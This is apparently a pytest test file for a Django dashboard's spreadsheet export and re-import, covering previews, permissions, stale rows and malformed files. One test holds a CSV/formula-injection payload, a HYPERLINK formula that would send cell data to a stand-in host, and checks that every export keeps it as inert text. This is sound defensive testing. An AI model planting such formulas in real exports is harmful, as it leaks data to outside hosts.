"""The tableau de bord exported to XLSX, ODS and CSV, edited offline and read back."""

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from concorde.conventions import tracking
from concorde.dashboard import spreadsheets

from .conftest import act, client_for


def export(client, convention, fmt):
    response = client.get(reverse("dashboard:export-sheet", args=[convention.pk, fmt]))
    assert response.status_code == 200
    return response.content


def edit_csv(data: bytes, number: str, column: str, value: str) -> bytes:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    head = rows[0]
    for row in rows[1:]:
        if row[head.index("Numéro")] == number:
            row[head.index(column)] = value
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


def upload(client, convention, data, name):
    return client.post(
        reverse("dashboard:import-sheet", args=[convention.pk]), {"sheet": SimpleUploadedFile(name, data)}
    )


@pytest.mark.parametrize("fmt", ["xlsx", "ods", "csv"])
def test_export_reads_back_without_changes(convention, people, fmt):
    client = client_for(people["paris_coord"])
    book = spreadsheets.read(export(client, convention, fmt), f"tdb.{fmt}")
    table = book["Actions"]
    assert [int(float(r["Identifiant"])) for r in table] == list(
        convention.actions.order_by("order").values_list("pk", flat=True)
    )
    assert table[0]["Statut"] == "À venir" and table[0]["Référence"] == "n°1"
    every = {"Actions", "Pilotes", "Indicateurs", "Mesures", "Budget"}
    assert set(book) == (every if fmt != "csv" else {"Actions"})
    assert fmt == "csv" or (book["Mesures"], book["Budget"]) == ([], [])  # none yet: their headers only
    result = spreadsheets.plan(convention, people["paris_coord"], book)
    rows = sum(len(v) for v in book.values())
    assert (len(result.changes), result.refused, result.unchanged) == (0, [], rows)


def test_xlsx_edited_offline_is_previewed_then_applied(convention, people):
    from openpyxl import load_workbook

    client = client_for(people["paris_coord"])
    wb = load_workbook(io.BytesIO(export(client, convention, "xlsx")))
    ws = wb["Actions"]
    head = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if row[head.index("Numéro")].value == "n°1":
            row[head.index("Statut")].value = "En cours"
            row[head.index("Avancement (%)")].value = 35
            row[head.index("Échéance")].value = "30/06/2026"
    out = io.BytesIO()
    wb.save(out)
    preview = upload(client, convention, out.getvalue(), "tdb.xlsx")
    html = preview.content.decode()
    assert preview.status_code == 200 and "À venir → <strong>En cours</strong>" in html and "30/06/2026" in html
    action = act(convention, "n°1")
    assert action.status == "planned"  # nothing applied before confirmation
    token = re.search(r'name="preview" value="([^"]*)"', html)[1]
    client.post(reverse("dashboard:import-sheet", args=[convention.pk]), {"confirm": "1", "preview": token})
    action.refresh_from_db()
    assert (action.status, action.progress, str(action.due_date)) == ("in_progress", 35, "2026-06-30")


def test_ods_edited_offline_is_applied(convention, people):
    client = client_for(people["montclair_coord"])
    data = export(client, convention, "ods")
    book = spreadsheets.read(data, "tdb.ods")
    for row in book["Actions"]:
        if row["Numéro"] == "n°3":
            row["Statut"] = "Bloqué"
    result = spreadsheets.plan(convention, people["montclair_coord"], book)
    assert [(c.subject[:3], c.op["values"]) for c in result.changes] == [("n°3", {"status": "blocked"})]


def test_rows_the_user_may_not_edit_and_stale_rows_are_refused(convention, people):
    client = client_for(people["paris_pilot"])  # pilots n°1 only
    data = export(client, convention, "csv")
    data = edit_csv(edit_csv(data, "n°1", "Avancement (%)", "50"), "n°4", "Avancement (%)", "90")
    result = spreadsheets.plan(convention, people["paris_pilot"], spreadsheets.read(data, "tdb.csv"))
    assert [c.op["action"] for c in result.changes] == [act(convention, "n°1").pk]
    assert len(result.refused) == 1 and "ne pouvez pas modifier" in result.refused[0][2]
    a1 = act(convention, "n°1")
    tracking.save_tracking(
        a1.pk, a1.lock_version, {"progress": 5}, people["montclair_coord"]
    )  # someone else saves meanwhile
    result = spreadsheets.plan(convention, people["paris_pilot"], spreadsheets.read(data, "tdb.csv"))
    assert result.changes == [] and any("modifiée depuis l'export" in r for _, _, r in result.refused)


@pytest.mark.parametrize(
    "data, name, message",
    [
        (b"", "vide.csv", "vide"),
        (b"a,b\n1,2\n", "autre.csv", "Identifiant"),
        (b"PK\x03\x04nimporte", "abime.xlsx", "illisible"),
        (b"%PDF-1.4", "doc.pdf", "format non reconnu"),
    ],
)
def test_bad_spreadsheets_get_a_french_message_and_change_nothing(convention, people, data, name, message):
    client = client_for(people["paris_coord"])
    response = upload(client, convention, data, name)
    assert response.status_code == 400 and message in response.content.decode()
    assert not convention.actions.exclude(status="planned").exists()


def test_readers_cannot_confirm_an_import(convention, people):
    client = client_for(people["paris_reader"])
    data = edit_csv(export(client, convention, "csv"), "n°1", "Statut", "Réalisé")
    preview = upload(client, convention, data, "tdb.csv")
    assert "ne pouvez pas modifier" in preview.content.decode()
    client.post(reverse("dashboard:import-sheet", args=[convention.pk]), {"confirm": "1"})
    assert act(convention, "n°1").status == "planned"


FORMULA = '=HYPERLINK("http://exemple.invalid/?d="&A2,"Voir")'


@pytest.mark.parametrize("fmt", ["xlsx", "ods", "csv"])
def test_a_partners_text_that_looks_like_a_formula_stays_a_text_in_every_export(convention, people, fmt):
    """A pilot of one party writes an update; the other party's export must not run it."""
    import zipfile

    action = act(convention, "n°4")
    montclair = convention.parties.get(label="Commune de Montclair-sur-Marne")
    tracking.post_update(action, montclair, people["montclair_pilot"], action.convention.validated_at.date(), FORMULA)
    data = export(client_for(people["paris_coord"]), convention, fmt)
    if fmt == "xlsx":
        sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "HYPERLINK" in sheet  # a text cell, not a formula
        from openpyxl import load_workbook

        cells = [c for row in load_workbook(io.BytesIO(data))["Actions"].iter_rows() for c in row if c.value == FORMULA]
        assert cells and all(c.data_type == "s" for c in cells)
    elif fmt == "ods":
        content = zipfile.ZipFile(io.BytesIO(data)).read("content.xml").decode()
        assert "table:formula" not in content and "HYPERLINK" in content
    else:
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        last = [r[rows[0].index("Dernier point")] for r in rows[1:] if "HYPERLINK" in r[rows[0].index("Dernier point")]]
        assert last == ["'" + FORMULA]  # neutralised as OWASP recommends
    # and the file reads back as it was exported: the text unchanged, nothing to apply
    book = spreadsheets.read(data, f"tdb.{fmt}")
    assert FORMULA in [r["Dernier point"] for r in book["Actions"]]
    result = spreadsheets.plan(convention, people["paris_coord"], book)
    assert (result.changes, result.refused) == ([], [])


@pytest.mark.parametrize("text", ["+33 1 23 45 67 89", "-5 % de déchets", "@mairie", "\tretrait", "\rretour"])
def test_csv_neutralises_every_formula_sign(text):
    assert spreadsheets.inert(text) == "'" + text
    assert spreadsheets.inert("Sans signe") == "Sans signe" and spreadsheets.inert(-5) == -5
